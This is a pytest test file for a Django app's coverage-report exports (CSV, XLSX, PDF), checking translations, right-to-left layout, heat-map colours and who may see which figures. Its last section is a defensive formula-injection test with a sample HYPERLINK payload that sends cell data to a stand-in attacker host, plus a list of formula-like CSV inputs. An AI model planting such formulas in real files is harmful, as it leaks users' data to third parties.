import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext
from openpyxl import load_workbook
from pypdf import PdfReader

from assistance.models import Need
from assistance.reports import colours, pdf, sections

from .conftest import make_need

pytestmark = pytest.mark.django_db

URL = "/api/v2/assistance/coverage/"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SHEET_MSGIDS = [
    "Summary",
    "Coverage",
    "Gap heat map",
    "Unmatched needs",
    "Duplication",
    "Synergies",
    "Fulfilment feedback",
]


# --- The colour scale ------------------------------------------------------------------------


def darkness(colour):
    return -sum(int(colour[i : i + 2], 16) for i in (0, 2, 4))


def test_the_heat_map_runs_from_no_gap_to_the_largest_gap():
    assert colours.gap_colour(0, 1000) == colours.LOW
    assert colours.gap_colour(500, 1000) == colours.MIDDLE
    assert colours.gap_colour(1000, 1000) == colours.HIGH
    assert colours.gap_colour(5000, 1000) == colours.HIGH  # beyond the scale: its end
    assert colours.gap_colour(Decimal("10"), Decimal("0")) == colours.LOW  # nothing to scale


def test_a_larger_gap_is_never_lighter():
    shades = [colours.gap_colour(gap, 100) for gap in range(0, 101, 5)]
    assert all(darkness(a) <= darkness(b) for a, b in zip(shades, shades[1:], strict=False))
    assert len(set(shades)) > 10


def test_text_on_the_heat_map_stays_readable():
    assert colours.text_colour(colours.LOW) == "000000"
    assert colours.text_colour(colours.HIGH) == "FFFFFF"


def test_sheet_names_are_ones_excel_accepts():
    assert sections.sheet_title("Gap: region/theme [USD]*?") == "Gap  region theme  USD"
    assert len(sections.sheet_title("x" * 40)) == 31


# --- XLSX ------------------------------------------------------------------------------------


def workbook(response):
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == XLSX
    return load_workbook(io.BytesIO(response.content))


def rows(sheet, first=1):
    return [list(row) for row in sheet.iter_rows(min_row=first, values_only=True)]


def test_the_workbook_in_french_has_translated_sheets_headings_and_numbers(admin_client):
    response = admin_client.get(URL, {"format": "xlsx", "locale": "fr"})
    assert response["Content-Disposition"] == 'attachment; filename="coverage-fr.xlsx"'
    book = workbook(response)
    with translation.override("fr"):
        expected = [sections.sheet_title(gettext(msgid)) for msgid in SHEET_MSGIDS]
    assert book.sheetnames == expected
    assert not any(sheet.sheet_view.rightToLeft for sheet in book.worksheets)

    table = rows(book.worksheets[1])
    assert table[0][:4] == ["Région", "Domaine thématique", "Besoins", "Demandé (USD)"]
    assert table[0][6] == "Déficit (USD)"
    # Amounts are numbers in dollars, summing to the five validated demo needs.
    assert sum(row[3] for row in table[1:]) == pytest.approx(1_650_000)
    assert all(isinstance(row[6], (int, float)) for row in table[1:])
    assert "USD" in book.worksheets[1].cell(row=2, column=4).number_format
    africa_stockpiles = [row for row in table if row[0] == "Afrique" and row[2] == 2]
    assert africa_stockpiles and africa_stockpiles[0][3] == pytest.approx(540_000)  # KE + NE

    summary = dict(row[:2] for row in rows(book.worksheets[0], first=5))
    assert summary["Demandé (USD)"] == pytest.approx(1_650_000)


def test_the_heat_map_sheet_colours_the_gap_matrix(admin_client):
    book = workbook(admin_client.get(URL, {"format": "xlsx", "locale": "fr"}))
    sheet = book.worksheets[2]
    matrix = rows(sheet, first=3)
    regions, themes = matrix[0][1:], [row[0] for row in matrix[1:]]
    assert "Afrique" in regions and len(themes) == 7  # the demo needs' themes
    ranges = {str(rule.sqref): rule.rules for rule in sheet.conditional_formatting}
    last = f"{chr(ord('A') + len(regions))}{len(themes) + 3}"
    assert list(ranges) == [f"B4:{last}"]
    (rule,) = ranges[f"B4:{last}"]
    assert rule.type == "colorScale"
    assert rule.colorScale.color[-1].rgb.endswith(colours.HIGH)
    gaps = [value for row in matrix[1:] for value in row[1:] if value is not None]
    assert sum(gaps) == pytest.approx(1_650_000)  # nothing funded yet in the demo


def test_the_arabic_workbook_reads_right_to_left(admin_client):
    book = workbook(admin_client.get(URL, {"format": "xlsx", "locale": "ar"}))
    assert all(sheet.sheet_view.rightToLeft for sheet in book.worksheets)
    assert rows(book.worksheets[1])[0][0] == "المنطقة"


# --- PDF -------------------------------------------------------------------------------------


def pdf_text(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)


def test_the_pdf_in_french_has_translated_headings(admin_client):
    response = admin_client.get(URL, {"format": "pdf", "locale": "fr"})
    assert response["Content-Disposition"] == 'attachment; filename="coverage-fr.pdf"'
    text = pdf_text(response)
    for heading in ("Région", "Demandé (USD)", "Déficit (USD)", "Domaine thématique"):
        assert heading in text
    with translation.override("fr"):
        assert gettext("Unmatched needs") in text
    assert "Afrique" in text


@pytest.mark.parametrize("language", ["ar", "zh-hans"])
def test_the_pdf_renders_in_arabic_and_chinese(admin_client, language):
    response = admin_client.get(URL, {"format": "pdf", "locale": language})
    assert len(pdf_text(response)) > 100


def test_the_arabic_report_is_marked_right_to_left():
    with translation.override("ar"):
        report = {
            "rows": [],
            "totals": dict.fromkeys(
                ["needs", "requested_usd", "matched_usd", "funded_usd", "gap_usd"], "0"
            ),
            "unmatched_needs": [],
            "duplication": [],
            "synergies": [],
        }
        html = pdf.render_html(report, "ar")
    assert '<html lang="ar" dir="rtl">' in html
    assert "Noto Naskh Arabic" in html


def test_the_heat_map_gives_the_largest_gap_the_darkest_colour():
    report = {
        "rows": [
            {
                "region": "002",
                "region_name": "Africa",
                "theme": "marking",
                "theme_name": "Marking",
                "gap_usd": "900.00",
            },
            {
                "region": "019",
                "region_name": "Americas",
                "theme": "marking",
                "theme_name": "Marking",
                "gap_usd": "100.00",
            },
        ]
    }
    heat = pdf.heat_map(report)
    assert heat["regions"] == ["Africa", "Americas"]
    (row,) = heat["rows"]
    assert [cell["background"] for cell in row["cells"]][0] == colours.HIGH
    assert heat["legend"][0]["background"] == colours.LOW
    assert heat["legend"][-1]["background"] == colours.HIGH


# --- Who sees what ---------------------------------------------------------------------------


@pytest.fixture
def hidden_need(db):
    """Validated but not published: the secretariat and donors count it, the public not."""
    return make_need(
        country="JM",
        themes=("brokering",),
        amount=777_000,
        status=Need.Status.VALIDATED,
        title="Brokering controls not yet published",
    )


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("file_format", ["csv", "xlsx", "pdf"])
def test_the_public_file_leaves_out_what_the_public_may_not_see(client, hidden_need, file_format):
    response = client.get(URL, {"format": file_format, "locale": "en"})
    assert response.status_code == 200
    if file_format == "csv":
        body = response.content.decode()
    elif file_format == "xlsx":
        book = workbook(response)
        body = repr([rows(sheet) for sheet in book.worksheets])
    else:
        body = pdf_text(response)
    assert "Brokering" not in body and "777" not in body
    assert "Review of the firearms law" not in body  # Mali's unvalidated need


def test_the_secretariat_counts_validated_needs_but_never_unvalidated_ones(
    admin_client, hidden_need
):
    table = csv_rows(admin_client.get(URL, {"format": "csv", "locale": "en"}))
    assert [row for row in table if row[2] == "brokering"][0][5] == "777000.00"
    assert not [row for row in table if row[2] == "legislation"]  # Mali's, only submitted


def test_a_national_point_of_contact_sees_the_public_figures(client, kenya_npc, hidden_need):
    client.force_login(kenya_npc)
    table = csv_rows(client.get(URL, {"format": "csv"}))
    assert not [row for row in table if row[2] == "brokering"]


def test_a_file_is_served_only_when_asked_for_by_format(client):
    # Accept alone does not choose a file: the shared API cache does not key on it.
    response = client.get(URL, HTTP_ACCEPT="text/csv")
    assert response.status_code == 406
    assert not response["Content-Type"].startswith("text/csv")
    response = client.get(URL, {"format": "csv"}, HTTP_ACCEPT="text/csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_bad_filters_answer_400_in_json_even_for_a_file(client):
    response = client.get(URL, {"format": "xlsx", "year": "next"})
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert "year" in response.json()["errors"]


def test_the_anonymous_file_keeps_its_name_when_served_from_the_cache(client):
    first = client.get(URL, {"format": "pdf", "locale": "es"})
    second = client.get(URL, {"format": "pdf", "locale": "es"})
    assert first.content == second.content
    assert second["Content-Disposition"] == 'attachment; filename="coverage-es.pdf"'
    assert second["Content-Type"] == "application/pdf"


# --- Admin -----------------------------------------------------------------------------------


def test_the_admin_screen_offers_every_format_in_the_users_language(client, kenya_npc):
    kenya_npc.poaiss_profile.preferred_language = "fr"
    kenya_npc.poaiss_profile.save()
    client.force_login(kenya_npc)
    response = client.get(reverse("assistance_coverage"))
    assert response.status_code == 200
    html = response.content.decode()
    assert '<option value="fr" selected>' in html
    for file_format in ("csv", "xlsx", "pdf"):
        assert f'value="{file_format}"' in html


@pytest.mark.parametrize(
    ("file_format", "content_type"),
    [("csv", "text/csv; charset=utf-8"), ("xlsx", XLSX), ("pdf", "application/pdf")],
)
def test_the_admin_downloads_each_format(admin_client, file_format, content_type):
    response = admin_client.get(
        reverse("assistance_coverage_export"), {"format": file_format, "locale": "ru"}
    )
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="coverage-ru.{file_format}"'


def test_the_admin_download_counts_only_what_the_user_may_see(client, jamaica_npc, hidden_need):
    client.force_login(jamaica_npc)
    response = client.get(reverse("assistance_coverage_export"), {"format": "xlsx"})
    book = workbook(response)
    assert "Brokering" not in repr([rows(sheet) for sheet in book.worksheets])


def test_an_unknown_admin_format_is_not_found(admin_client):
    response = admin_client.get(reverse("assistance_coverage_export"), {"format": "docx"})
    assert response.status_code == 404


# --- Formula injection -------------------------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("https://attacker.example/steal?d="&A1,"Open the annex")'


def test_a_formula_in_a_need_title_stays_text_in_the_workbook(admin_client):
    make_need(country="KE", themes=("tracing",), title=FORMULA_TITLE, amount=12_345)
    book = workbook(admin_client.get(URL, {"format": "xlsx", "locale": "en"}))
    cells = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert cells, "the need is listed in the workbook"
    for cell in cells:
        assert cell.data_type == "s"
        assert cell.value == FORMULA_TITLE


def test_formula_like_text_is_escaped_in_csv_and_numbers_are_not():
    from cms.core.spreadsheets import csv_row

    assert csv_row(["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx", -5, "Kenya", None]) == [
        "'=1+1",
        "'+SUM(A1)",
        "'-2+3",
        "'@cmd",
        "'\tx",
        "'\rx",
        -5,
        "Kenya",
        "",
    ]
